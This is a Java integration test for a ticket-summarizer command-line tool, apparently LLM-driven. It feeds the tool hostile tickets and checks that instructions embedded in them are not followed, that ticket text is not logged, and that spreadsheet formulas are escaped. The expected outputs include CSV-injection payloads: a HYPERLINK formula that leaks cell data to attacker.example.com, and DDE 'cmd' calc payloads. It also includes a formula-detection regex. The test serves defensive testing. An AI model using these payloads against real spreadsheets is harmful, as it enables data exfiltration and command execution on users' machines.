package io.github.ticketsummarizer.cli.command;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvRecord;
import io.github.ticketsummarizer.cli.command.HostileTickets.Expectation;
import io.github.ticketsummarizer.model.ExitCode;
import io.github.ticketsummarizer.testing.LogCapture;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/** The hostile samples through everything, once; the tests look at what came of it. */
class HostileTicketsIT {
    /** What a spreadsheet takes for a formula, however it is hidden. */
    private static final Pattern FORMULA = Pattern.compile("[\\s\\p{C}\\p{Z}]*[=+\\-@＝＋－＠].*", Pattern.DOTALL);

    private static final HostileTickets samples = new HostileTickets();

    @TempDir
    static Path folder;

    private static OutputFiles outputs;
    private static CommandRunner.Result result;
    private static List<String> logged;

    @BeforeAll
    static void run() {
        outputs = new OutputFiles(folder.resolve("output"));
        try (LogCapture log = new LogCapture()) {
            LoggerFactory.getLogger(HostileTicketsIT.class).trace("captured");
            result = new CommandRunner(folder)
                    .run(
                            "run",
                            "--input",
                            HostileTickets.FOLDER.resolve("ids.csv").toString(),
                            "--analysis-type",
                            "both",
                            "--model-provider",
                            "offline",
                            "--tickets",
                            HostileTickets.FOLDER.toString(),
                            "--output",
                            outputs.folder().toString());
            logged = log.lines();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {OutputFiles.POD, OutputFiles.DIAGNOSTICS})
    void everyTicketIsReportedOnceAsItsTableSays(String prefix) throws IOException {
        assertThat(result.exitCode()).as(result.err()).isEqualTo(ExitCode.FAILED_TICKETS.code());
        assertThat(outputs.tickets(prefix))
                .extracting(ticket -> "%s %s"
                        .formatted(
                                ticket.path("ticket_id").asText(),
                                ticket.path("error_type")
                                        .asText(ticket.path("processing_status").asText())))
                .containsExactlyElementsOf(samples.expectations()
                        .map(expected -> "%s %s".formatted(expected.ticketId(), expected.outcome()))
                        .toList());
    }

    @Test
    void noInstructionIsFollowed() throws IOException {
        Map<String, String> pods = outputs.tickets(OutputFiles.POD).stream()
                .collect(Collectors.toMap(
                        ticket -> ticket.path("ticket_id").asText(),
                        ticket -> ticket.at("/categorization/primary_pod").asText()));

        assertThat(samples.expectations().filter(expected -> !expected.asksFor().isEmpty()))
                .hasSizeGreaterThanOrEqualTo(12)
                .allSatisfy(expected -> assertThat(pods.get(expected.ticketId()))
                        .as(expected.ticketId())
                        .isNotBlank()
                        .isNotEqualTo(expected.asksFor()));
    }

    @Test
    void nothingOfATicketIsLoggedOrToldOnTheTerminal() {
        assertThat(logged)
                .as("all of our own messages are captured")
                .anyMatch(line -> line.contains("captured"))
                .noneMatch(line -> line.contains(HostileTickets.MARKER));
        assertThat(result.out() + result.err()).doesNotContain(HostileTickets.MARKER);
    }

    @Test
    void whyATicketFailedQuotesNothingOfIt() throws IOException {
        assertThat(outputs.document(OutputFiles.POD).path("errors"))
                .hasSize((int)
                        samples.expectations().filter(Expectation::isFailure).count())
                .allSatisfy(error ->
                        assertThat(error.path("message").asText()).isNotBlank().doesNotContain(HostileTickets.MARKER));
    }

    @ParameterizedTest
    @ValueSource(strings = {OutputFiles.POD, OutputFiles.DIAGNOSTICS})
    void noCellIsAFormula(String prefix) throws IOException {
        List<CsvRecord> records = outputs.records(prefix);

        assertThat(records).hasSize(1 + (int) samples.expectations().count());
        assertThat(records)
                .allSatisfy(record -> assertThat(record.getFieldCount())
                        .isEqualTo(records.getFirst().getFieldCount()))
                .allSatisfy(record -> assertThat(record.getFields())
                        .noneMatch(cell -> FORMULA.matcher(cell).matches()));
    }

    @Test
    void formulasAreKeptBehindAnApostrophe() throws IOException {
        assertThat(outputs.cells(OutputFiles.POD, "subject"))
                .contains(
                        "'=HYPERLINK(\"https://attacker.example.com/?leak=\"&A1&B1,\"Open the ticket\") kestrel900013",
                        "'+1+cmd|' /C calc'!A1 kestrel900014",
                        "'-2+3+cmd|' /C calc'!A1 kestrel900015",
                        "'@SUM(1+1)*cmd|' /C calc'!A1 kestrel900016",
                        "'\t=1+1;\"broken kestrel900017");
        assertThat(outputs.cells(OutputFiles.POD, "issue_reported")).anyMatch(cell -> cell.startsWith("'="));
    }

    @Test
    void whatNoTextMayHoldIsVisiblyReplaced() throws IOException {
        assertThat(outputs.cells(OutputFiles.POD, "subject"))
                .contains(
                        "Smart\uFFFD tip sits on the wrong button kestrel900018",
                        "Survey never appears in the desktop\uFFFD widget kestrel900019\uFFFD",
                        "\u202eytpme sevirra etubirtta resU\u202c \u200fkestrel900020\u200e");
    }
}
